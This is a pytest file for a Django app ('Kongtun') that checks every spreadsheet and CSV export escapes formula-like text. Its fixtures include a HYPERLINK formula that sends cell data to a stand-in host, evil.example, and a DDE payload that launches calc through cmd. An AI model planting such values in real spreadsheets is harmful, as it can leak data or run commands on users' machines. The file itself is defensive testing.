"""Text that looks like a formula stays text in every spreadsheet Kongtun writes (issue 12):
a fund named ``=HYPERLINK(…)`` or a status reason ``-2+3`` is read back as the same text in a
string cell, never as a formula; numbers stay numbers."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from kongtun.core.spreadsheet import safe_cell, safe_row, safe_workbook
from kongtun.funds.models import Fund
from kongtun.members.services import member_set_status
from tests.assessment.test_exports_and_evidence import answered  # noqa: F401 - fixture
from tests.conftest import TODAY
from tests.mobilization.test_mobilization import _request, scene  # noqa: F401 - fixture
from tests.projection.test_views import inline_runs, run_one  # noqa: F401 - fixture
from tests.reports.conftest import books  # noqa: F401 - fixture

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
REASONS = ["-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "+1"]


def _cells(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_text_not_formulas(content: bytes, *texts: str) -> None:
    cells = _cells(content)
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, formulas
    values = [c.value for c in cells if isinstance(c.value, str)]
    for text in texts:
        assert any(text in v for v in values), text
    assert any(isinstance(c.value, int | float) for c in cells)  # numbers stay numbers


def _evil_fund(fund) -> None:
    Fund.objects.filter(pk=fund.pk).update(name_th=EVIL)


def test_safe_cell_and_safe_workbook():
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("\t=1") == "'\t=1"
    assert safe_cell("สมศรี") == "สมศรี" and safe_cell(-5) == -5 and safe_cell(None) is None
    assert safe_cell(Decimal("-1.50")) == Decimal("-1.50")
    assert safe_row(["@x", 3, dt.date(2024, 1, 1)]) == ["'@x", 3, dt.date(2024, 1, 1)]
    wb = Workbook()
    wb.active.append([EVIL, *REASONS, -3, "ok"])
    buf = io.BytesIO()
    safe_workbook(wb).save(buf)
    cells = _cells(buf.getvalue())
    assert [c.value for c in cells] == [EVIL, *REASONS, -3, "ok"]
    assert [c.data_type for c in cells] == ["s", "s", "s", "s", "n", "s"]


def test_every_spreadsheet_writer_uses_the_safe_cells():
    """A writer added later without the neutralising call fails here."""
    root = Path(__file__).resolve().parent.parent / "kongtun"
    writers = []
    for path in root.rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        tree = ast.parse(source)
        names = {
            n.attr if isinstance(n, ast.Attribute) else n.id
            for n in ast.walk(tree)
            if isinstance(n, ast.Attribute | ast.Name)
        }
        if "Workbook" in names and ".save(" in source:
            writers.append(path.name)
            assert "safe_workbook" in names, path
        if "writer" in names and "csv" in names and "writerow" in names:
            writers.append(path.name)
            assert "safe_row" in names or "safe_cell" in names, path
    assert len(writers) >= 5


def test_monthly_annual_and_statement_xlsx(books, world, client):  # noqa: F811
    fund = world.fund_a
    _evil_fund(fund)
    for member, reason in ((world.members_a[0], REASONS[0]), (world.newcomer, REASONS[1])):
        member_set_status(
            member=member,
            status="resigned",
            effective_date=dt.date(2024, 3, 25),
            reason=reason,
            actor=None,
            today=TODAY,
        )
    client.force_login(world.chair_a)
    base = f"/f/{fund.pk}/reports/"
    monthly = client.get(base + "monthly/", {"month": "2024-03", "format": "xlsx"})
    assert_text_not_formulas(monthly.content, EVIL, *REASONS[:2])
    annual = client.get(base + "annual/", {"year": "2567", "format": "xlsx"})
    assert_text_not_formulas(annual.content, EVIL)
    member = world.members_a[0]
    statement = client.get(f"{base}members/{member.pk}/", {"format": "xlsx"})
    assert_text_not_formulas(statement.content, EVIL)


def test_matching_request_xlsx(scene, world, client):  # noqa: F811
    request = _request(scene)
    _evil_fund(scene["fund"])
    client.force_login(world.chair_a)
    response = client.get(f"/f/{scene['fund'].pk}/mobilization/requests/{request.pk}/xlsx/")
    assert_text_not_formulas(response.content, EVIL)


def test_assessment_xlsx(answered, world, client):  # noqa: F811
    _evil_fund(world.fund_a)
    client.force_login(world.chair_a)
    response = client.get(f"/f/{world.fund_a.pk}/assessment/rounds/{answered.pk}/export.xlsx")
    assert_text_not_formulas(response.content, EVIL)


def test_projection_xlsx_with_a_formula_as_its_title(world, client):
    response = run_one(world, client, title=EVIL)
    xlsx = client.get(response["Location"] + "report.xlsx")
    assert_text_not_formulas(xlsx.content, EVIL)


def test_problems_csv_reads_back_as_text():
    out = io.StringIO()
    csv.writer(out).writerow(safe_row([3, "member", EVIL, "-1"]))
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["3", "member", "'" + EVIL, "'-1"]
